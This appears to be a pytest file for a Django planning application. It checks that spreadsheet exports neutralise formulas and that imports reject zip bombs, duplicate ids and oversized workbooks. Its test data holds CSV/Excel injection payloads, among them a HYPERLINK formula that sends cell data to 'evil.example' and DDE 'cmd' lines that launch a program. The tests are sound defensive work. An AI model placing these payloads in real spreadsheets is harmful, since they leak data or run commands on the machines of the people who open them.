"""Spreadsheet safety and the Excel round trip: every text cell of every spreadsheet export is
inert (a string, never a formula), the application's own export imports back unchanged
whatever its texts hold, the same id twice is refused, and imports are bounded (size, unzipped
size, rows, columns), refusing a 300,000-row workbook in well under a second."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from lsr.web.plan import excel, excel_format
from lsr.web.plan.excel_read import decode_escapes, encode_escapes
from lsr.web.plan.models import Action, AreaForImprovement, Milestone, Organisation, Theme

pytestmark = pytest.mark.django_db

#: Texts that a spreadsheet would run, or that have broken a round trip: formulas and DDE
#: payloads, quotes, line breaks, tabs, Excel's own escapes, non-ASCII, the longest a cell holds.
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'starts with a quote",
    "has \"double\" and 'single' quotes",
    "line one\n=line two\n+line three",
    "tab\tinside and -dash",
    "café, Ünïcödé, 中文, עברית, emoji 😀",
    "_x0041_ is not an A, nor _x005F_x0042_",
    "1e5",
    "TRUE",
    "x" * 32_767,
]
#: Texts for single-line fields (no line breaks or tabs), each within the field's length.
NASTY_SINGLE = [t for t in NASTY if "\n" not in t and "\t" not in t and len(t) <= 20]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _state(review: Any) -> list[tuple[Any, ...]]:
    return [
        (
            a.pk,
            a.reference,
            a.what,
            a.area_id,
            a.theme_id,
            a.owner_organisation_id,
            a.owner_person,
            a.start,
            a.due,
            a.status,
            a.evidence_notes,
            tuple(a.indicators),
            a.version,
            tuple((m.pk, m.date, m.text, m.done, m.version) for m in a.milestones.all()),
        )
        for a in Action.objects.filter(review=review).order_by("pk")
    ] + [
        (x.pk, x.priority_group, x.text, x.order)
        for x in AreaForImprovement.objects.filter(review=review).order_by("pk")
    ]


def _nasty_plan(review: Any) -> None:
    """Every text of the review's actions, milestones and areas set to a nasty text (texts
    that the text rules accept: they are legitimate content)."""
    actions = list(Action.objects.filter(review=review).order_by("pk"))
    for i, action in enumerate(actions):
        action.what = NASTY[i % len(NASTY)]
        action.evidence_notes = NASTY[(i + 3) % len(NASTY)]
        action.reference = NASTY_SINGLE[i % len(NASTY_SINGLE)]
        action.owner_person = NASTY_SINGLE[(i + 1) % len(NASTY_SINGLE)][:200]
        action.save()
        for j, m in enumerate(action.milestones.all()):
            m.text = ["=cmd|' /C calc'!A0", "a | b | done", "@x", "-"][(i + j) % 4]
            m.save()
    for i, area in enumerate(AreaForImprovement.objects.filter(review=review)):
        area.text = NASTY[(i + 5) % len(NASTY)]
        area.save()
    # names a workbook shows too
    Theme.objects.filter(pk=actions[0].theme_id).update(name="=Theme(1)")
    Organisation.objects.filter(pk=actions[0].owner_organisation_id).update(name="@Org +1")


def _routes() -> list[tuple[str, str]]:
    """Every URL pattern of the application (not the admin) as (pattern, name)."""
    found: list[tuple[str, str]] = []

    def walk(patterns: Any, prefix: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                if "admin" not in str(p.pattern):
                    walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                found.append((prefix + str(p.pattern), p.name or ""))

    walk(get_resolver().url_patterns, "")
    return found


def _export_responses(client: Any, review: Any) -> list[tuple[str, Any]]:
    """GET every route that may answer with a file (its path says export or download, has a
    file extension or a format parameter), with the ids filled in; keep the spreadsheets."""
    action = Action.objects.filter(review=review).first()
    ids = {
        "review_id": review.pk,
        "action_id": action.pk,
        "milestone_id": Milestone.objects.first().pk,
        "theme_id": review.themes.first().pk,
        "area_id": review.areas.first().pk,
    }
    sheets = []
    candidates = [
        (pattern, name)
        for pattern, name in _routes()
        if re.search(r"export|download|\.(csv|xlsx?)|<str:fmt>", pattern)
    ]
    assert candidates
    for pattern, _name in candidates:
        for fmt in ("xlsx", "csv", "xls"):
            path = pattern
            for key, value in ids.items():
                path = re.sub(rf"<int:{key}>", str(value), path)
            path = path.replace("<str:fmt>", fmt)
            if "<" in path:  # an id this test does not know how to fill
                continue
            response = client.get("/" + path)
            kind = response.get("Content-Type", "")
            disposition = response.get("Content-Disposition", "")
            if (
                "spreadsheet" in kind
                or "csv" in kind
                or "excel" in kind
                or re.search(r"\.(csv|xlsx?)\"?$", disposition)
            ):
                assert response.status_code == 200, path
                sheets.append((path, response))
            if "<str:fmt>" not in pattern:
                break
    return sheets


def _assert_inert_xlsx(data: bytes, where: str) -> int:
    """No formula anywhere in the workbook's XML; every text cell a string, quote-prefixed
    when it starts with a formula trigger. Returns the number of text cells seen."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"{where}: a formula in {name}"
                assert 't="e"' not in xml, f"{where}: an error cell in {name}"
    wb = load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    seen += 1
                    assert cell.data_type == "s", f"{where} {ws.title}!{cell.coordinate}"
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, f"{where} {ws.title}!{cell.coordinate}"
    return seen


def _assert_inert_csv(data: bytes, where: str) -> int:
    seen = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for value in row:
            seen += 1
            assert not value.startswith(TRIGGERS), f"{where}: live cell {value[:40]!r}"
    return seen


def test_every_spreadsheet_export_is_inert(demo: Any, client_for: Any) -> None:
    _nasty_plan(demo)
    responses = _export_responses(client_for("admin"), demo)
    assert any("export.xlsx" in path for path, _r in responses)
    for path, response in responses:
        data = response.content
        if data[:2] == b"PK":
            seen = _assert_inert_xlsx(data, path)
        else:
            seen = _assert_inert_csv(data, path)
        assert seen > 50, path  # the nasty texts were there to be checked


def test_text_cell_types_every_trigger_as_text() -> None:
    from openpyxl import Workbook

    ws = Workbook().active
    for text in [*NASTY, "\tx", "\rx", "plain", ""]:
        cell = excel.text_cell(ws, text)
        assert cell.data_type == "s"
        assert cell.quotePrefix == (text.startswith(("=", "+", "-", "@", "\t", "\r")))


def _post(client: Any, review: Any, data: bytes) -> Any:
    return client.post(
        f"/reviews/{review.pk}/actions/import/", {"file": SimpleUploadedFile("plan.xlsx", data)}
    )


def test_own_export_imports_back_unchanged(demo: Any, client_for: Any) -> None:
    """Every field of every row, with formulas, quotes, newlines, long and non-ASCII texts:
    the export imports without an error and changes nothing (not even a version)."""
    _nasty_plan(demo)
    client = client_for("lead")
    before = _state(demo)
    data = client.get(f"/reviews/{demo.pk}/actions/export.xlsx").content
    response = _post(client, demo, data)
    assert response.status_code == 302, response.content.decode()[-3000:]
    assert _state(demo) == before
    # and the second export is the same workbook, cell for cell
    again = client.get(f"/reviews/{demo.pk}/actions/export.xlsx").content
    first, second = load_workbook(io.BytesIO(data)), load_workbook(io.BytesIO(again))
    for name in first.sheetnames:
        assert list(first[name].values) == list(second[name].values)


def test_texts_edited_in_the_workbook_are_saved_exactly(demo: Any, client_for: Any) -> None:
    """Each nasty text typed into each text column of the workbook is stored exactly and
    exported again exactly."""
    client = client_for("lead")
    data = client.get(f"/reviews/{demo.pk}/actions/export.xlsx").content
    wb = load_workbook(io.BytesIO(data))
    ws = wb[excel.ACTION_SHEET]
    col = {name: i + 1 for i, name in enumerate(excel.ACTION_COLUMNS)}
    expected: dict[int, dict[str, str]] = {}
    for r, text in enumerate(NASTY, start=2):
        single = NASTY_SINGLE[r % len(NASTY_SINGLE)]
        values = {"what": text, "evidence_notes": text[::-1], "reference": single}
        values["owner_person"] = single
        for name, value in values.items():
            cell = ws.cell(row=r, column=col[name])
            cell.value = encode_escapes(value)  # as Excel writes a typed "_x0041_"
            cell.data_type = "s"
        ws.cell(
            row=r, column=col["milestones"]
        ).value = f"2019-05-01 | {single} | done\n2019-06-01 | a | b | c | open"
        expected[ws.cell(row=r, column=1).value] = values
    buffer = io.BytesIO()
    wb.save(buffer)
    response = _post(client, demo, buffer.getvalue())
    assert response.status_code == 302, response.content.decode()[-3000:]
    for pk, values in expected.items():
        action = Action.objects.get(pk=pk)
        for name, value in values.items():
            assert getattr(action, name) == value, name
        single = values["reference"]
        assert [(m.text, m.done) for m in action.milestones.all()] == [
            (single, True),
            ("a | b | c", False),
        ]
    out = load_workbook(io.BytesIO(client.get(f"/reviews/{demo.pk}/actions/export.xlsx").content))
    rows = {row[0]: row for row in out[excel.ACTION_SHEET].iter_rows(min_row=2, values_only=True)}
    for pk, values in expected.items():
        for name, value in values.items():
            assert decode_escapes(rows[pk][col[name] - 1]) == value  # as Excel shows it


def _errors(response: Any) -> str:
    from html import unescape

    return unescape(response.content.decode())


def test_the_same_action_or_area_twice_is_refused(demo: Any, client_for: Any) -> None:
    client = client_for("lead")
    data = client.get(f"/reviews/{demo.pk}/actions/export.xlsx").content
    wb = load_workbook(io.BytesIO(data))
    ws = wb[excel.ACTION_SHEET]
    first = [c.value for c in ws[2]]
    ws.append([*first[:2], "The second copy would have won", *first[3:]])
    last = ws.max_row
    areas = wb[excel.AREA_SHEET]
    areas.append([c.value for c in areas[3]])
    area_row = areas.max_row
    buffer = io.BytesIO()
    wb.save(buffer)
    before = _state(demo)
    response = _post(client, demo, buffer.getvalue())
    assert response.status_code == 400
    text = _errors(response)
    assert (
        f"sheet 'Actions', row {last}, column 'id': action {first[0]} is on row 2 and on "
        f"row {last}" in text
    )
    assert f"row {area_row}, column 'id': area for improvement" in text and "on row 3" in text
    assert _state(demo) == before


def test_import_of_a_workbook_exported_before_a_milestone_change_is_refused(
    demo: Any, client_for: Any
) -> None:
    """Marking a milestone done changes its action's version: an import prepared before it
    cannot undo it silently."""
    client = client_for("lead")
    data = client.get(f"/reviews/{demo.pk}/actions/export.xlsx").content
    milestone = Milestone.objects.filter(action__review=demo, done=False).first()
    response = client.post(
        f"/milestones/{milestone.pk}/done/", {"done": "true", "version": milestone.version}
    )
    assert response.status_code == 302
    wb = load_workbook(io.BytesIO(data))
    ws = wb[excel.ACTION_SHEET]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == milestone.action_id)
    row[2].value = "A change made in the workbook"
    buffer = io.BytesIO()
    wb.save(buffer)
    response = _post(client, demo, buffer.getvalue())
    assert response.status_code == 400
    assert "was changed by lead" in _errors(response)
    milestone.refresh_from_db()
    assert milestone.done is True


# --- bounded imports -----------------------------------------------------------------------


def _with_sheet_xml(data: bytes, sheet_part: str, make: Any) -> bytes:
    """The workbook with one sheet's XML replaced by ``make(old_xml)``."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == sheet_part:
                body = make(body.decode()).encode()
            dst.writestr(info.filename, body)
    return out.getvalue()


def _blank_rows(first: int, last: int, width: int = 15) -> str:
    """Blank rows as a spreadsheet program writes them: styled cells without values."""
    letters = [chr(ord("A") + i) for i in range(width)]
    return "".join(
        f'<row r="{r}">' + "".join(f'<c r="{c}{r}" s="1"/>' for c in letters) + "</row>"
        for r in range(first, last + 1)
    )


def _append_rows(xml: str, rows: str) -> str:
    return xml.replace("</sheetData>", rows + "</sheetData>")


def _export(demo: Any) -> bytes:
    return excel.export_workbook(demo)


def _lead() -> Any:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username="lead")


@pytest.mark.parametrize(
    ("width", "expected"),
    [
        # one styled blank cell per row: 12 MB of XML, refused at the row limit
        (
            1,
            f"more than {excel_format.MAX_ROWS:,} rows after the header row (reading stopped "
            f"at row {excel_format.MAX_ROWS + 2:,}; blank rows count too)",
        ),
        # a full row of them: refused before reading, on its unzipped size
        (15, "the workbook unzips to 104 MB; the most an import takes is 50 MB"),
    ],
)
def test_300000_blank_rows_are_refused_quickly(demo: Any, width: int, expected: str) -> None:
    data = _export(demo)
    n_actions = Action.objects.filter(review=demo).count()
    big = _with_sheet_xml(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: _append_rows(xml, _blank_rows(n_actions + 2, 300_000, width)),
    )
    assert len(big) < excel_format.MAX_FILE_BYTES  # it compresses well: the size passes
    before = _state(demo)
    start = time.perf_counter()
    with pytest.raises(excel.ImportError_) as info:
        excel.import_workbook(demo, big, _lead())
    elapsed = time.perf_counter() - start
    print(f"300,000 blank rows x {width} cells: refused in {elapsed:.3f} s")
    (message,) = info.value.errors
    assert expected in message
    assert elapsed < 2.0
    assert _state(demo) == before


def test_row_limit_boundary_and_a_lying_dimension(demo: Any) -> None:
    """Blank rows up to the limit pass; one more is refused; rows past the dimension the
    file declares are read, not dropped."""
    data = _export(demo)
    n = Action.objects.filter(review=demo).count()
    limit = excel_format.MAX_ROWS + 1  # the last row number allowed (after the header)
    at_limit = _with_sheet_xml(
        data, "xl/worksheets/sheet1.xml", lambda x: _append_rows(x, _blank_rows(n + 2, limit))
    )
    assert excel.import_workbook(demo, at_limit, _lead()).updated == 0
    past = _with_sheet_xml(
        data,
        "xl/worksheets/sheet1.xml",
        lambda x: _append_rows(x, _blank_rows(limit + 1, limit + 1)),
    )
    with pytest.raises(excel.ImportError_):
        excel.import_workbook(demo, past, _lead())

    def lie(xml: str) -> str:  # declare one row only; add a bad row far below
        xml = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:O2"/>', xml)
        cell = f'<c r="A{n + 40}" t="inlineStr"><is><t>not a number</t></is></c>'
        bad = f'<row r="{n + 40}">{cell}</row>'
        return _append_rows(xml, bad)

    with pytest.raises(excel.ImportError_) as info:
        excel.import_workbook(demo, _with_sheet_xml(data, "xl/worksheets/sheet1.xml", lie), _lead())
    assert f"row {n + 40}, column 'id'" in info.value.errors[0]


def test_too_many_columns_is_refused(demo: Any) -> None:
    data = _export(demo)
    col = "BA"  # column 53, past the limit of 50
    wide = _with_sheet_xml(
        data,
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace(
            "</row>", f'<c r="{col}1" t="inlineStr"><is><t>extra</t></is></c></row>', 1
        ),
    )
    with pytest.raises(excel.ImportError_) as info:
        excel.import_workbook(demo, wide, _lead())
    assert "a value in column 53; the most a sheet may fill is 50 columns" in info.value.errors[0]


def test_file_size_unzipped_size_and_not_a_workbook(demo: Any, client_for: Any) -> None:
    client = client_for("lead")
    page = _errors(client.get(f"/reviews/{demo.pk}/actions/import/"))
    assert "up to 10 MB (50 MB once unzipped), with up to 5,000 rows of data per sheet" in page
    big = b"PK" + b"\0" * (excel_format.MAX_FILE_BYTES + 1)
    response = _post(client, demo, big)
    assert response.status_code == 200  # the form's own error, before anything is read
    assert "the most an import takes is 10 MB" in _errors(response)
    # a small file that unzips past the limit (a "zip bomb")
    bomb = _with_sheet_xml(
        _export(demo),
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace(
            "</worksheet>", " " * (excel_format.MAX_UNZIPPED_BYTES + 1) + "</worksheet>"
        ),
    )
    assert len(bomb) < 1_000_000
    start = time.perf_counter()
    response = _post(client, demo, bomb)
    assert time.perf_counter() - start < 2.0
    assert response.status_code == 400 and "unzips to 50 MB" in _errors(response)
    for junk in (b"", b"not a workbook", b"PK\x03\x04 broken"):
        with pytest.raises(excel.ImportError_) as info:
            excel.import_workbook(demo, junk, _lead())
        assert "not an .xlsx workbook" in info.value.errors[0]


def test_dates_and_numbers_round_trip(demo: Any) -> None:
    action = Action.objects.filter(review=demo).first()
    action.start, action.due = dt.date(2019, 1, 31), dt.date(2020, 2, 29)
    action.save()
    wb = load_workbook(io.BytesIO(_export(demo)))
    row = next(r for r in wb[excel.ACTION_SHEET].iter_rows(values_only=True) if r[0] == action.pk)
    assert row[7].date() == action.start and row[8].date() == action.due
    assert row[14] == action.version
